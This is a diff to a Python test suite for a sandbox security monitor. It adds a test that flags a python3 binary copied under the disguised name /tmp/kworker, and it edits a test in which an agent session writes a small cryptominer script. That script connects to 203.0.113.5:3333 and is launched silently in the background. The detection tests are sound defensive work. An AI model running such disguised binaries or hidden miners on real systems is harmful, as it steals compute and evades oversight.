@@ -52,14 +52,25 @@ async def test_miner_hidden_in_a_script_is_stopped_at_exec(sb_factory, runtime):
     assert "Operation not permitted" in r.stderr or r.exit_code == -9
 
 
-async def test_background_renamed_miner_attributed_to_the_step_that_started_it(sb_factory, runtime, world):
+async def test_renamed_system_binary_is_killed_at_exec(sb_factory, runtime):
+    sb = await sb_factory()
+    r = await sb.exec("cp $(command -v python3) /tmp/kworker && /tmp/kworker -c 'print(1)'")
+    f = (await findings_for(runtime, sb, "renamed-system-binary"))[0]
+    assert f.step == r.step and r.stdout == "" and f.technique == "T1036.003"
+    # a venv-style copy under the program's own name is the same program, not a disguise
+    r = await sb.exec("cp $(readlink -f $(command -v python3)) /tmp/python3 && /tmp/python3 -c 'print(2)'")
+    assert r.stdout == "2\n"
+    assert [x for x in await findings_for(runtime, sb, "renamed-system-binary") if x.step == r.step] == []
+
+
+async def test_background_miner_attributed_to_the_step_that_started_it(sb_factory, runtime, world):
     sb = await sb_factory()
     s = await sb.create_session("agent")
     await s.run("echo preparing; mkdir -p /workspace/proj")
     await sb.write_file("/workspace/proj/m.py", (
         "import socket,time\ns=socket.create_connection(('203.0.113.5',3333),timeout=5)\n"
         "s.sendall(b'{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\\n')\ntime.sleep(60)\n"))
-    miner = "cp $(command -v python3) /tmp/kworker && (sleep 0.6; /tmp/kworker /workspace/proj/m.py) >/dev/null 2>&1 &"
+    miner = "(sleep 0.6; python3 /workspace/proj/m.py) >/dev/null 2>&1 &"
     start = await s.run(miner)
     assert start.exit_code == 0
     later = [await s.run("ls /workspace"), await s.run("echo still working")]
